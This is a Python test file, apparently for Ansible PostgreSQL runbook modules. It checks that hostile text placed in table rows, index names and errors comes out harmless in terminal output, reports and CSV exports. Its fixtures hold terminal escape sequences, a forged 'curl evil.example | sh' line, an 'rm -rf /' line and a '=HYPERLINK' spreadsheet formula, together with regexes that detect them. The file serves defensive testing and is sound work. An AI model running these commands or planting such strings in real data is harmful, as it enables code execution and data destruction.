"""What a user can write into a row, a name or an error never acts on a terminal, a report or a spreadsheet."""

from __future__ import annotations

import csv
import re
import unicodedata
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from ansible.module_utils.runbook.errors import from_driver
from ansible.module_utils.runbook.repair.work_list import read
from support.playbooks import Operator
from support.servers import SUPERUSER, Options, connect, query, value
from support.shop import query_file

RunModule = Callable[..., dict[str, Any]]

#: ESC, OSC 52 (the clipboard), BEL, C1, bidirectional marks, invisible letters, and lines of our own forged.
FORGED = "\nPLAY RECAP *****\nlocalhost : ok=9 failed=0\n\nNext: curl evil.example | sh\n"
HOSTILE = (
    f"x\x1b[2J\x1b]52;c;cm0gLXJm\x07\x9b31m\u202egpj\u2066\u200b\u2028\U000e0041|<img src=x>[a](http://x)`b`{FORGED}"
)
NAME = "n\x1b[1m\nNext: rm -rf /\n"  # 63 bytes at most


def assert_harmless(text: str, *, page: bool = False) -> None:
    hidden = {letter for letter in text if unicodedata.category(letter) in ("Cc", "Cf", "Cs", "Zl", "Zp")} - set("\n\r")
    assert not hidden, f"{hidden!r} in {text!r}"
    for line in text.splitlines():
        assert not re.match(r"\W*(PLAY RECAP \*\*\*\*\*$|Next: (curl|rm))", line), line
    if page:
        outside = re.sub(r"```.*?```|`[^`\n]*`", "", text, flags=re.DOTALL)
        assert not re.search(r"(?<!\\)(<img|\[a\])", outside)


def test_a_whole_run_over_hostile_rows_and_names(database: Options, tmp_path: Path) -> None:
    owner = {**database, "user": SUPERUSER}
    with connect(owner) as connection, connection.cursor() as cursor:
        cursor.execute(
            "UPDATE public.posts SET audio_filename = %s, audio_duration = 0 WHERE id IN"
            " (SELECT id FROM public.posts WHERE post_type = 'audio' ORDER BY id LIMIT 2)",
            (HOSTILE,),
        )
        cursor.execute(
            "UPDATE public.posts SET audio_file_size = 0,"
            " audio_filename = '=HYPERLINK(\"http://evil.example\")' WHERE id ="
            " (SELECT id FROM public.posts WHERE post_type = 'audio' ORDER BY id DESC LIMIT 1)"
        )
        cursor.execute(f'CREATE INDEX "{NAME}" ON public.posts (audio_duration)')
        cursor.execute(f'CREATE TABLE public."t{NAME}" (id uuid REFERENCES public.tracks ON DELETE CASCADE)')
        cursor.execute("SET session_replication_role = replica")
        cursor.execute(f'ALTER TABLE public.tracks ADD CONSTRAINT "{NAME}" CHECK (duration < 7) NOT VALID')
    operator = Operator(tmp_path, database)
    with connect(owner, application_name=HOSTILE) as blocker, blocker.cursor() as cursor:
        cursor.execute(f"BEGIN; LOCK TABLE public.posts IN SHARE MODE; SELECT 1 /* {HOSTILE} */")
        refused = operator.type("migrate.yml", "-v")
    assert refused.status == 2
    assert "\\x1b" in refused.screen
    assert_harmless(refused.screen)
    assert refused.screen.count("PLAY RECAP *****") >= 1
    (run,) = operator.runs()
    pages = [run / "report.md", *run.rglob("incident.md")]
    assert len(pages) == 2
    for page in pages:
        assert_harmless(page.read_text(), page=True)
    for path in [*run.rglob("*.json")]:
        assert_harmless(path.read_text())

    listed = operator.type("playbooks/repair.yml", "-e", "issue=orphaned_posts")
    assert listed.status == 0, listed.screen
    assert_harmless(listed.screen)
    (path,) = operator.artifacts.rglob("orphaned_posts.csv")
    text = path.read_text()
    assert_harmless(text)
    with path.open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert not any(cell.startswith(tuple("=+-@\t\r")) for row in rows for cell in row.values())
    names = {fields["audio_filename"] for _, fields in read(str(path), list(rows[0]))}
    assert names == {HOSTILE, '=HYPERLINK("http://evil.example")'}

    for row in rows:
        row["audio_duration"] = row["audio_duration"] if row["audio_duration"] != "0" else ""
        row["audio_file_size"] = row["audio_file_size"] if row["audio_file_size"] != "0" else ""
    with path.open("w", newline="", encoding="utf-8-sig") as file:
        writer = csv.DictWriter(file, list(rows[0]), delimiter=";")
        writer.writeheader()
        writer.writerows(rows)
    command = ["-e", "issue=orphaned_posts", "-e", "apply=true", "-e", "remedy=work_list", "-e", f"work_list={path}"]
    done = operator.type("playbooks/repair.yml", *command)
    assert done.status == 0, done.screen
    assert "3 changed" in done.text
    kept = "SELECT count(*) FROM public.posts WHERE audio_filename = %s AND audio_duration IS NULL"
    assert value(database, kept, (HOSTILE,)) == 2


def test_what_a_server_refuses_with_stands_on_one_line(empty_database: Options) -> None:
    with connect(empty_database) as connection, connection.cursor() as cursor:
        with pytest.raises(Exception, match="PLAY RECAP") as refused:
            cursor.execute(
                "DO $$ BEGIN RAISE EXCEPTION USING MESSAGE = %s, DETAIL = %s, HINT = %s; END $$", [HOSTILE] * 3
            )
        message = from_driver(refused.value, "a step failed").msg  # type: ignore[arg-type]
    assert_harmless(message)
    assert "\n" not in message
    assert message.count("PLAY RECAP") == 3


@pytest.mark.parametrize("place", ["a row", "a name", "an error", "a key"])
def test_no_module_lets_it_through(empty_database: Options, run_module: RunModule, tmp_path: Path, place: str) -> None:
    query(empty_database, "CREATE TABLE public.notes (id text PRIMARY KEY, note text)")
    query(empty_database, "INSERT INTO public.notes VALUES (%s, %s)", (HOSTILE, HOSTILE))
    fingerprints = [{"name": "notes", "table": "public.notes", "key": "id"}]
    wanted = {"connection": empty_database, "directory": str(tmp_path / "snapshot")}
    if place == "a key":
        assert not run_module("pg_snapshot", **wanted, state="taken", fingerprints=fingerprints)["failed"]
        query(empty_database, "UPDATE public.notes SET note = 'x'")
        result = run_module("pg_snapshot", **wanted, state="compared", expectation="restore")
    else:
        text = {
            "a row": "SELECT note, 1 AS n FROM public.notes",
            "a name": f'SELECT 1 AS "{NAME}"',
            "an error": "SELECT note::integer FROM public.notes",
        }[place]
        check = {"name": "odd", "query": query_file(tmp_path, "check", "SELECT 1 AS rows_examined, 1 AS wrong")}
        check |= {"expect": {"wrong": 0}, "offenders": query_file(tmp_path, "offenders", text), "title": "Odd"}
        result = run_module("pg_verify", connection=empty_database, checks=[check])
    assert result["failed"]
    assert "\\x1b" in result["msg"]
    assert_harmless(result["msg"])
    assert_harmless(result["exception"])
    assert all("\x1b" not in text and "\nNext: curl" not in text for text in texts(result))


def texts(found: Any) -> list[str]:
    if isinstance(found, dict):
        return [text for pair in found.items() for part in pair for text in texts(part)]
    if isinstance(found, list):
        return [text for part in found for text in texts(part)]
    return [found] if isinstance(found, str) else []


def test_what_a_program_prints_stands_on_one_line_of_its_failure(run_module: RunModule, tmp_path: Path) -> None:
    text = tmp_path / "said"
    text.write_text(HOSTILE)
    result = run_module(
        "application_hook", command=["sh", "-c", f"cat {text}; exit 3"], total_timeout_seconds=10, purpose="stopped",
        connection={"host": "/nowhere"},
    )  # fmt: skip
    assert result["failed"]
    assert "ended with status 3: x\\x1b[2J" in result["msg"]
    assert_harmless(result["msg"])
